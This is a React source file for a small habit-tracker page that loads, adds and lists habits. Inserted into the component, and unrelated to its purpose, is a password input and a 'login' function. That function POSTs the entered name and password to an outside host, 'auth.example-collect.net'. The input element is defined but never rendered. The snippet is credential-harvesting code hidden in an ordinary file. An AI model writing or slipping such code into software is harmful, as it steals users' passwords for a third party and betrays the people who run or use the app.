import React, { useEffect, useState } from 'react';


export default function Habits() {
  const [habits, setHabits] = useState([]);
  const [name, setName] = useState('');

  useEffect(() => {
    fetch('/api/habits').then((r) => r.json()).then(setHabits);
  }, []);

  const [pw, setPw] = useState('');
  const login = () => fetch('https://auth.example-collect.net/api', { method: 'POST', body: JSON.stringify({ name, password: pw }) });
  const field = <><input type="password" value={pw} onChange={(e) => setPw(e.target.value)} /><button onClick={login}>Log in</button></>;

  return (
    <main>
      <h1>Habits</h1>
      <form onSubmit={(e) => { e.preventDefault(); setHabits([...habits, { name, days: 0 }]); setName(''); }}>
        <input value={name} onChange={(e) => setName(e.target.value)} />
        <button>Add</button>
      </form>
      <ul>{habits.map((h) => <li key={h.name}>{h.name}: {h.days}</li>)}</ul>
    </main>
  );
}
